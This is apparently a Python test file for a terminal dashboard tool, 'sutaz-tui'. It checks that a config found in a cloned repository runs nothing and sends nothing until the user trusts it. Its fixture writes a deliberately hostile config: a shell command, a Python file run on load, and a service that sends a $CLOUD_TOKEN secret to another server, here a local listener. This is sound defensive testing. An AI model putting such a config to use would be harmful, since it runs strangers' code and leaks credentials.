"""A cloned repository with a sutaz-tui.yaml: nothing of it is run or asked before somebody trusted it."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from tests.running import LEAK, command
from tests.strangers import strange
from tests.terminal import Terminal

SECRET = "hunter2-of-the-cloud"


class Listening:
    """A server of somebody else: the requests that it was sent."""

    def __init__(self) -> None:
        received = self.received = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                received.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                return

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def theirs() -> Iterator[Listening]:
    listening = Listening()
    thread = threading.Thread(target=listening.server.serve_forever)
    thread.start()
    yield listening
    listening.server.shutdown()
    listening.server.server_close()
    thread.join()


@pytest.fixture
def cloned(tmp_path: Path, theirs: Listening) -> Path:
    """A folder as a repository brings it."""
    folder = tmp_path / "cloned"
    folder.mkdir()
    (folder / "sutaz-tui.yaml").write_text(
        "services:\n"
        "  - {id: run, title: Their program, kind: command, argv: [/bin/sh, -c, 'touch RUN']}\n"
        f"  - {{id: leak, kind: http, address: '{theirs.address}/${{CLOUD_TOKEN}}'}}\n"
        "checks: {files: [own.py]}\n"
    )
    (folder / "own.py").write_text(
        "from pathlib import Path\nfrom sutaz_tui.checks.own import check\nPath('RUN').touch()\n"
        "@check('own.one', 'one')\nasync def one(ask): return 'well'\n"
    )
    return folder


def run(cloned: Path, *words: str) -> tuple[int, str, str]:
    done = command(*words, cwd=cloned, env={"CLOUD_TOKEN": SECRET})
    return done.returncode, done.stdout, done.stderr


@pytest.mark.parametrize("words", ["", "--plain", "status", "check", "check --list", "report", "logs leak"])
def test_a_cloned_config_is_not_obeyed_until_the_line_that_it_says_trusts_it(
    words: str, cloned: Path, theirs: Listening
) -> None:
    code, out, err = run(cloned, *words.split())
    assert (code, out) == (2, "")
    assert err.startswith(
        "sutaz-tui.yaml: found in this folder and not trusted yet; nothing of it was asked or run\n"
    )
    assert "  runs   /bin/sh -c 'touch RUN' (run, with your whole environment)\n" in err
    assert f"  sends  $CLOUD_TOKEN to {theirs.address.removeprefix('http://')} (leak)\n" in err
    assert SECRET not in err
    assert not LEAK.search(err)
    assert (theirs.received, (cloned / "RUN").exists()) == ([], False)

    line = err.splitlines()[-1].removeprefix("To trust it as it is: sutaz-tui ")
    code, out, err = run(cloned, *line.split())
    assert (code, err) == (0, "")
    assert out == f"trusted: sutaz-tui.yaml ({line.split()[-1]})\n"
    if words == "status":
        code, out, _ = run(cloned, "status")
        assert "Their program" in out
        assert theirs.received == [f"/{SECRET}"]
        assert (cloned / "RUN").exists()


@pytest.mark.parametrize("what", ["check", "show", "path", "cost"])
def test_looking_at_a_config_needs_no_trust_and_runs_nothing(
    what: str, cloned: Path, theirs: Listening
) -> None:
    code, out, err = run(cloned, "config", what)
    assert (code, err) == (0, "")
    assert out
    assert SECRET not in out
    assert (theirs.received, (cloned / "RUN").exists()) == ([], False)
    assert ("not trusted yet: sutaz-tui config trust" in out) == (what == "check")


def test_a_variable_is_not_shown_before_the_config_is_trusted(cloned: Path) -> None:
    (cloned / "sutaz-tui.yaml").write_text(
        "services: [{id: a, kind: command, argv: [echo, '${PLAIN}'], title: '${PLAIN}'}]\n"
    )

    def shown() -> str:
        return command("config", "show", cwd=cloned, env={"PLAIN": "what-it-holds"}).stdout

    assert 'services.a.argv: ["echo", "${PLAIN}"]' in shown()
    assert "what-it-holds" not in shown()
    command("config", "trust", "sutaz-tui.yaml", cwd=cloned, env={"PLAIN": "what-it-holds"})
    assert shown().count("what-it-holds") == 2


def test_what_has_changed_since_it_was_shown_is_not_trusted_by_its_old_hash(cloned: Path) -> None:
    shown = run(cloned, "status")[2].split()[-1]
    with (cloned / "own.py").open("a") as file:
        file.write("# another word\n")
    code, out, err = run(cloned, "config", "trust", shown)
    assert (code, out) == (2, "")
    assert err.startswith(f"sutaz-tui.yaml: found another config than the one of {shown}")
    assert run(cloned, "status")[0] == 2


def test_a_named_file_is_shown_trusted_and_forgotten_again(cloned: Path) -> None:
    code, out, _ = run(cloned.parent, "config", "trust", "cloned/sutaz-tui.yaml")
    assert code == 0
    assert "  runs   cloned/own.py (Python)" in out
    assert out.splitlines()[-1].startswith("trusted: cloned/sutaz-tui.yaml (")
    assert run(cloned, "check", "--list")[0] == 0
    assert run(cloned, "config", "trust") == (0, "sutaz-tui.yaml is trusted already\n", "")
    assert run(cloned, "config", "untrust") == (0, "no longer trusted: sutaz-tui.yaml\n", "")
    assert run(cloned, "config", "untrust") == (0, "sutaz-tui.yaml was not trusted\n", "")
    assert run(cloned, "check", "--list")[0] == 2


def test_trusting_in_a_script_wants_the_file_or_the_hash(cloned: Path) -> None:
    code, out, err = run(cloned, "config", "trust")
    assert (code, out) == (2, "")
    assert "To trust it as it is: sutaz-tui config trust " in err
    code, out, err = run(cloned.parent, "config", "trust", "0" * 40)
    assert (code, out) == (2, "")
    assert "none here" in err
    (cloned / "other.yaml").write_text("services: [{id: a, kind: tcp, address: 'h:1'}]\n")
    code, out, err = run(cloned, "config", "trust", "other.yaml")
    assert (code, out) == (2, "")
    assert "any other needs no trust, -c names it" in err
    assert run(cloned.parent, "config", "trust")[1].endswith(
        "(built in) needs no trust: only ./sutaz-tui.yaml does\n"
    )


def test_without_a_home_folder_it_can_only_be_named(cloned: Path) -> None:
    done = strange("status", cwd=cloned, env={"CLOUD_TOKEN": SECRET})
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.splitlines()[-1].endswith("name it each time: -c sutaz-tui.yaml")
    assert not (cloned / "RUN").exists()


def asked(cloned: Path, *words: str) -> Terminal:
    return Terminal(*words, cwd=cloned, env={"CLOUD_TOKEN": SECRET}, columns=120, rows=30)


@pytest.mark.parametrize("words", ["", "status", "check", "logs leak", "report", "--plain"])
@pytest.mark.parametrize("answer", ["\r", "n\r", "\x04"])
def test_at_a_terminal_it_is_asked_and_anything_but_yes_is_no(
    words: str, answer: str, cloned: Path, theirs: Listening
) -> None:
    with asked(cloned, *words.split()) as terminal:
        terminal.wait_for("Trust it as it is? [y/N]")
        assert "/bin/sh -c 'touch RUN'" in terminal.text
        assert b"\x1b[?1049h" not in terminal.raw
        terminal.press(answer)
        assert terminal.wait_end() == (130 if answer == "\x04" else 2)
        assert SECRET not in terminal.text
    assert (theirs.received, (cloned / "RUN").exists()) == ([], False)


def test_at_a_terminal_yes_opens_the_board_and_it_is_not_asked_again(cloned: Path) -> None:
    with asked(cloned) as terminal:
        terminal.wait_for("Trust it as it is? [y/N]")
        terminal.press("y\r")
        terminal.wait_for(lambda text: "Their program" in text and "q again" not in text)
        terminal.press("Q")
        assert terminal.wait_end() == 0
    with asked(cloned) as terminal:
        text = terminal.wait_for("Their program")
        assert "Trust it" not in text
        terminal.press("Q")
        assert terminal.wait_end() == 0


def test_what_was_typed_before_the_question_is_no_answer(cloned: Path) -> None:
    with asked(cloned, "status") as terminal:
        terminal.press("y\ry\r")
        terminal.wait_for("Trust it as it is? [y/N]")
        terminal.press("n\r")
        assert terminal.wait_end() == 2
    assert not (cloned / "RUN").exists()


def test_what_changes_while_the_question_stands_is_not_run(cloned: Path) -> None:
    with asked(cloned, "check", "--list") as terminal:
        terminal.wait_for("Trust it as it is? [y/N]")
        (cloned / "own.py").write_text("from pathlib import Path\nPath('RUN').touch()\n")
        terminal.press("y\r")
        assert terminal.wait_end() == 2
        assert "has changed since it was shown" in " ".join(terminal.text.split())
    assert not (cloned / "RUN").exists()


@pytest.mark.parametrize("words", ["status", "config check"])
def test_an_env_file_that_others_can_read_is_told_once(words: str, open_env_file: str) -> None:
    done = command(*words.split(), "-c", open_env_file)
    expected = (
        "warning: others on this machine can read stack.env (0644), where secrets stand: chmod o= stack.env"
    )
    assert (done.stdout + done.stderr).splitlines().count(expected) == 1


def test_the_board_tells_of_an_env_file_that_others_can_read(open_env_file: str) -> None:
    with Terminal("-c", open_env_file, columns=120) as terminal:
        terminal.wait_for("others on this machine can read stack.env (0644)")
        terminal.press("Q")
        assert terminal.wait_end() == 0
        assert "warning:" not in terminal.text


@pytest.fixture
def open_env_file(open_folder: Path) -> str:
    """A config whose env_file everybody can read."""
    (open_folder / "stack.env").write_text("WHERE=127.0.0.1:1\n")
    (open_folder / "stack.env").chmod(0o644)
    file = open_folder / "a.yaml"
    file.write_text("env_file: stack.env\nservices: [{id: a, kind: tcp, address: '${WHERE}'}]\n")
    return str(file)
